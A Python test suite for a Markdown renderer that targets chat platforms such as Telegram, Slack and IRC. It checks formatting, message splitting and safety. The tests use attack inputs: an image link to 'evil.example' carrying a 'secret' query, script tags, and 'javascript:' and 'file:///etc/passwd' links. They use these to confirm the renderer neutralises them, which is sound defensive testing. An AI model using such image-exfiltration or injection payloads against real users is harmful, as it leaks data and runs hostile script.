"""Markdown in each platform's dialect: its marks are done, words stay words, nothing is loaded, and
no part is longer than it may be."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from gateways._text import octets, units
from gateways.markdown import (
    IRC,
    PLAIN,
    SIGNAL,
    SLACK,
    STANDARD,
    STARRED,
    TELEGRAM,
    Dialect,
    as_html,
    parts,
    plain,
    written,
)

ALL = {
    "plain": PLAIN, "telegram": TELEGRAM, "slack": SLACK, "standard": STANDARD, "starred": STARRED,
    "signal": SIGNAL, "irc": IRC,
}  # fmt: skip
BOLD = {
    "plain": "two alarms", "telegram": "<b>two</b> alarms", "slack": "*two* alarms",
    "standard": "**two** alarms", "starred": "*two* alarms", "signal": "**two** alarms",
    "irc": "\x02two\x02 alarms",
}  # fmt: skip
LIST = "- **one**\n- two\n  1. deeper\n\n> said\n\n```\na < b\n```\n"
PICTURE = "![look](https://evil.example/?q=secret)"
every = pytest.mark.parametrize("name", ALL)


@every
def test_a_mark_is_written_as_the_platform_does(name: str) -> None:
    assert parts("**two** alarms", ALL[name], 4000) == [BOLD[name]]


@every
def test_lists_quotes_and_listings_keep_their_words_in_order(name: str) -> None:
    (text,) = parts(LIST, ALL[name], 4000)
    text = text.replace("&lt;", "<")
    places = [text.index(word) for word in ("one", "• two", "1. deeper", "said", "a < b")]
    assert places == sorted(places)


@every
def test_a_picture_is_named_and_never_drawn(name: str) -> None:
    (text,) = parts(f"See {PICTURE}", ALL[name], 4000)
    assert "https://evil.example/?q=secret" in text
    assert "<img" not in as_html(PICTURE)
    drawn = MarkdownIt().render(parts(f"See {PICTURE}", STANDARD, 4000)[0])
    assert "<img" not in drawn


@every
def test_what_is_no_markdown_is_shown_letter_by_letter(name: str) -> None:
    (text,) = written("*a* <b> & 2*3", False, ALL[name], 4000)
    assert re.sub(r"[\\\u2060]", "", text.replace("&lt;", "<").replace("&gt;", ">")).replace(
        "&amp;", "&"
    ) == ("*a* <b> & 2*3")


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd"])
def test_only_the_web_and_mail_are_linked(url: str) -> None:
    assert "href" not in as_html(f"[x]({url})")
    assert parts(f"[x]({url})", SLACK, 4000)[0].startswith("[x]")


def test_html_of_strangers_is_words() -> None:
    assert "<script" not in as_html("<script>alert(1)</script>\n\n<b onclick=x>y</b>")
    assert parts("<b>x</b>", TELEGRAM, 4000) == ["&lt;b&gt;x&lt;/b&gt;"]


def test_an_address_stays_one_that_is_found() -> None:
    address = "https://example.org/a_b_c*d"
    for dialect in (SLACK, STANDARD, STARRED):
        assert address in written(f"see {address} now", False, dialect, 4000)[0]
    assert parts(f"<{address}>", PLAIN, 4000) == [address]
    assert parts("[x](https://a.example/(1))", STANDARD, 4000) == ["[x](https://a.example/%281%29)"]


@every
@given(
    text=st.text(st.sampled_from("ab 你👍*_`~[]()<>#|-\n1.&!\\"), max_size=300),
    limit=st.integers(min_value=40, max_value=120),
    markdown=st.booleans(),
)
def test_no_part_is_longer_than_it_may_be(name: str, text: str, limit: int, markdown: bool) -> None:
    dialect: Dialect = ALL[name]
    for measure in (units, octets):
        made = written(text, markdown, dialect, limit, measure)
        assert made
        assert max(map(measure, made)) <= limit


def test_a_long_answer_is_cut_between_blocks_and_marks_stay_whole() -> None:
    items = "\n".join(f"- **item {n}** is here" for n in range(40))
    made = parts(items, TELEGRAM, 200)
    assert len(made) > 3
    assert all(part.count("<b>") == part.count("</b>") > 0 for part in made)
    assert re.findall(r"item (\d+)", " ".join(made)) == [str(n) for n in range(40)]
    listing = "```\n" + "\n".join(f"line {n}" for n in range(100)) + "\n```"
    made = parts(listing, SLACK, 150)
    assert all(part.startswith("```\n") and part.endswith("\n```") for part in made)


def test_plain_is_for_the_voice() -> None:
    assert plain("# Two\n\n**alarms** are [set](https://example.org)") == (
        "Two\n\nalarms are set (https://example.org)"
    )
